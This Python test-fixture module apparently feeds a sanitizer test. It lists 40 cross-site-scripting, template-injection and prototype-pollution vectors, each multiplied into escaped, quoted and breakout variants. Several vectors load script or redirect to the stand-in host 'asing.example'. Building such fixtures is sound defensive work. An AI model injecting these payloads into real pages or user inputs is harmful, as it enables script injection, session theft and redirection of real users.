"""Texts that run, load or lead away wherever a page takes them for markup: 40 vectors, each in several dresses.

Whatever runs would call ``JALAN`` or ask the host ``ASING``; a test looks for either.
"""

import html
from urllib.parse import quote

JALAN = "window.__jalan=1"
ASING = "asing.example"

VECTORS = (
    f"<script>{JALAN}</script>",
    f"<script src=//{ASING}/x.js></script>",
    f"<img src=x onerror={JALAN}>",
    f"<svg onload={JALAN}>",
    f"<svg><script>{JALAN}</script></svg>",
    f"<svg><animate onbegin={JALAN} attributeName=x dur=1s>",
    f"<body onload={JALAN}>",
    f"<input autofocus onfocus={JALAN}>",
    f"<select autofocus onfocus={JALAN}>",
    f"<details open ontoggle={JALAN}>",
    f"<video><source onerror={JALAN}>",
    f"<audio src=x onerror={JALAN}>",
    f"<marquee onstart={JALAN}>",
    f"<iframe srcdoc='<script>parent.{JALAN}</script>'></iframe>",
    f"<iframe src=javascript:{JALAN}></iframe>",
    f"<object data=javascript:{JALAN}></object>",
    f"<embed src=//{ASING}/x.swf>",
    f"<link rel=stylesheet href=//{ASING}/x.css>",
    f"<style>@import url(//{ASING}/x.css)</style>",
    f"<p style=background:url(//{ASING}/x.png)>",
    f"<base href=//{ASING}/>",
    f"<meta http-equiv=refresh content='0;url=//{ASING}/'>",
    f"<form action=//{ASING}/><button autofocus>",
    f"<a href=javascript:{JALAN} autofocus>x</a>",
    f"<a href=data:text/html,<script>{JALAN}</script>>x</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JALAN}>",
    f"<template><script>{JALAN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={JALAN}>'>",
    f"<textarea></textarea><script>{JALAN}</script>",
    f"<!--><script>{JALAN}</script>-->",
    f"<![CDATA[><script>{JALAN}</script>]]>",
    f"[x](javascript:{JALAN})",
    f"[x]: javascript:{JALAN}",
    f"![x](x 'onerror={JALAN}')",
    f"<javascript:{JALAN}>",
    f"javascript:{JALAN}",
    "{{ config.items() }}",
    "{% include 'main.html' %}",
    "${" + JALAN + "}",
    "__proto__[x]=1",
)


def payloads() -> tuple[str, ...]:
    """Give every vector in every dress, each once, in a fixed order."""
    dresses = (
        lambda text: text,
        lambda text: f'">{text}',
        lambda text: f"'>{text}",
        lambda text: f"</title></p>{text}",
        lambda text: "".join(c.upper() if i % 2 else c for i, c in enumerate(text)),
        lambda text: text.replace(" ", "/").replace("<script", "<script/"),
        html.escape,
        quote,
    )
    return tuple(dict.fromkeys(dress(vector) for vector in VECTORS for dress in dresses))
